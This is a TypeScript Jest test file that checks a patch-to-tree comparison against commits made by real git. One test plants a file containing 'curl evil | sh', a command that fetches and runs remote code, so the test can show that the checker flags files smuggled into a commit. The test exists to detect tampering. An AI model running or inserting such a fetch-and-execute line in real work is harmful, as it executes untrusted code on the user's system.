// The measured patch read back into the tree it makes, checked against commits made by REAL git: every kind of change
// the work stage can measure (edit, add, delete, pure rename, rename with edits, mode change, binary, a name with a
// space or a non-ASCII character) agrees with the commit, and any difference is named.
import { afterEach, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import { chmod, mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { compareWithPatch, parseRawChanges, patchTree } from '../../src/domain/patch-tree.js'

const exec = promisify(execFile)
const dirs: string[] = []
afterEach(async () => {
  for (const dir of dirs.splice(0)) await rm(dir, { recursive: true, force: true })
})

async function git(cwd: string, args: string[]): Promise<string> {
  const { stdout } = await exec('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
    cwd,
    maxBuffer: 1 << 24
  })
  return stdout
}

async function repoWithChanges() {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'patch-tree-'))
  dirs.push(dir)
  await git(dir, ['init', '-q', '-b', 'main'])
  await mkdir(path.join(dir, 'src'))
  await writeFile(path.join(dir, 'src/a.js'), 'one\ntwo\nthree\n')
  await writeFile(path.join(dir, 'src/gone.js'), 'bye\n')
  await writeFile(path.join(dir, 'src/moved.js'), 'x\n'.repeat(40))
  await writeFile(path.join(dir, 'src/moved-edited.js'), 'y\n'.repeat(40))
  await writeFile(path.join(dir, 'run.sh'), '#!/bin/sh\necho hi\n')
  await git(dir, ['add', '-A'])
  await git(dir, ['commit', '-q', '-m', 'base'])
  const base = (await git(dir, ['rev-parse', 'HEAD'])).trim()
  await writeFile(path.join(dir, 'src/a.js'), 'one\n2\nthree\n')
  await rm(path.join(dir, 'src/gone.js'))
  await git(dir, ['mv', 'src/moved.js', 'src/renamed.js'])
  await git(dir, ['mv', 'src/moved-edited.js', 'src/renamed-edited.js'])
  await writeFile(path.join(dir, 'src/renamed-edited.js'), 'y\n'.repeat(39) + 'z\n')
  await chmod(path.join(dir, 'run.sh'), 0o755)
  await writeFile(path.join(dir, 'src/with space.js'), 'spaced\n')
  await writeFile(path.join(dir, 'src/café.js'), 'accent\n')
  await writeFile(path.join(dir, 'src/logo.bin'), Buffer.from([0, 1, 2, 255, 0, 7]))
  await writeFile(path.join(dir, 'src/empty.txt'), '')
  await git(dir, ['add', '-A'])
  const patch = await git(dir, [
    'diff',
    '--cached',
    '-M',
    '--binary',
    '--full-index',
    '--src-prefix=a/',
    '--dst-prefix=b/',
    base
  ])
  return { dir, base, patch }
}

async function check(dir: string, base: string, commit: string, patch: string): Promise<string[]> {
  const expected = patchTree(patch)
  if (!expected.ok) throw new Error(expected.reason)
  const raw = await git(dir, ['diff-tree', '-r', '-z', '--raw', '--no-renames', '--full-index', base, commit])
  const listing = await git(dir, ['ls-tree', '-r', '-z', '--full-tree', base])
  const baseTree = new Map(
    listing
      .split('\0')
      .map(r => /^(\d+) \w+ ([0-9a-f]+)\t(.*)$/s.exec(r))
      .filter((m): m is RegExpExecArray => m !== null)
      .map(m => [m[3]!, { mode: m[1]!, blob: m[2]! }])
  )
  return compareWithPatch(expected.paths, parseRawChanges(raw), p => baseTree.get(p) ?? null)
}

describe('patchTree against real git', () => {
  it('agrees with the commit for every kind of change the work stage measures', async () => {
    const { dir, base, patch } = await repoWithChanges()
    expect(patch).toContain('rename from src/moved.js')
    expect(patch).toContain('GIT binary patch')
    expect(patch).toContain('new mode 100755')
    await git(dir, ['commit', '-q', '-m', 'fix'])
    const commit = (await git(dir, ['rev-parse', 'HEAD'])).trim()
    expect(await check(dir, base, commit, patch)).toEqual([])
  })

  it('names a file the commit holds that the measured diff does not, and a blob that differs', async () => {
    const { dir, base, patch } = await repoWithChanges()
    await writeFile(path.join(dir, 'src/a.js'), 'one\nPLANTED\nthree\n')
    await writeFile(path.join(dir, 'planted.sh'), 'curl evil | sh\n')
    await git(dir, ['add', '-A'])
    await git(dir, ['commit', '-q', '-m', 'fix'])
    const commit = (await git(dir, ['rev-parse', 'HEAD'])).trim()
    const problems = await check(dir, base, commit, patch)
    expect(problems).toEqual([
      expect.stringMatching(/^src\/a\.js differs from the measured diff/),
      'planted.sh is in the commit but not in the measured diff'
    ])
  })

  it('names a mode the commit changed and a deletion it skipped', async () => {
    const { dir, base, patch } = await repoWithChanges()
    await chmod(path.join(dir, 'src/a.js'), 0o755)
    await writeFile(path.join(dir, 'src/gone.js'), 'bye\n')
    await git(dir, ['add', '-A'])
    await git(dir, ['commit', '-q', '-m', 'fix'])
    const commit = (await git(dir, ['rev-parse', 'HEAD'])).trim()
    expect(await check(dir, base, commit, patch)).toEqual([
      'src/a.js has mode 100755 in the commit, 100644 in the measured diff',
      'src/gone.js should be deleted but the commit keeps it'
    ])
  })

  it('cannot be read from a patch without blob ids, and says so', () => {
    const result = patchTree('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n')
    expect(result).toEqual({ ok: false, reason: 'the patch gives no blob id for x' })
  })
})
